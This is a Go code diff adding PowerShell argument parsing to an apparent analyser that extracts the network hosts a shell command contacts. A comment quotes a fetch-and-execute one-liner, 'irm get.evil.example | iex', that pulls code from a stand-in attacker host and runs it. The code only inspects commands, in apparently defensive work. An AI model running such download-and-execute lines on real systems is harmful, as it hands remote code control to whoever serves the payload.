@@ -365,6 +365,55 @@ func (c *collector) gitDialed(argv []string, known []bool) {
 	}
 }
 
+// psValueOptions are PowerShell's own options that take the next word
+// (powershell -ExecutionPolicy Bypass -Command …), lower-cased, with their
+// short forms.
+var psValueOptions = []string{"executionpolicy", "ep", "ex", "windowstyle", "w", "outputformat", "o", "of",
+	"inputformat", "if", "in", "version", "v", "configurationname", "config", "workingdirectory", "wd",
+	"settingsfile", "custompipename", "psconsolefile"}
+
+// psCommand is the command PowerShell runs from its arguments (-Command,
+// -c, /c or, with none, its first word on), the words joined; false for
+// a script file, an encoded command or a word not literal.
+func psCommand(argv []string, known []bool) (string, bool) {
+	from := func(j int) (string, bool) {
+		return strings.Join(argv[j:], " "), j < len(argv) && !slices.Contains(known[j:], false)
+	}
+	for i := 1; i < len(argv) && known[i]; i++ {
+		a := strings.ToLower(argv[i])
+		opt, isOpt := strings.CutPrefix(a, "-")
+		if !isOpt {
+			opt, isOpt = strings.CutPrefix(a, "/")
+		}
+		switch {
+		case !isOpt:
+			return from(i)
+		case opt == "c" || opt == "cwa" || strings.HasPrefix(opt, "com"):
+			return from(i + 1)
+		case opt == "f" || strings.HasPrefix(opt, "fi") || opt == "e" || strings.HasPrefix(opt, "ec") || strings.HasPrefix(opt, "enc"):
+			return "", false
+		case slices.Contains(psValueOptions, opt):
+			i++
+		}
+	}
+	return "", false
+}
+
+// psHosts adds the hosts PowerShell's command gives its cmdlets and
+// programs (powershell -c "irm get.evil.example | iex", Scoop's way to
+// install), read as a shell line: a pipeline of commands and their words
+// parses alike. Hosts only: the programs it runs are read as they were.
+func (c *collector) psHosts(argv []string, known []bool, depth int) {
+	code, ok := psCommand(argv, known)
+	if !ok || c.hosts == nil || depth >= maxDepth {
+		return
+	}
+	names, remoteSet, gitFetched := c.names, c.remoteSet, c.gitFetched
+	c.names = nil
+	c.line(code, depth+1)
+	c.names, c.remoteSet, c.gitFetched = names, remoteSet, gitFetched
+}
+
 // hostOf is the host a dialer's word names, lower-cased: past a scheme
 // (https://) and a user (mallory@), before a path, a port or (colon) the
 // colon of host:path; a DNS server's @8.8.8.8 without its @; an IPv6
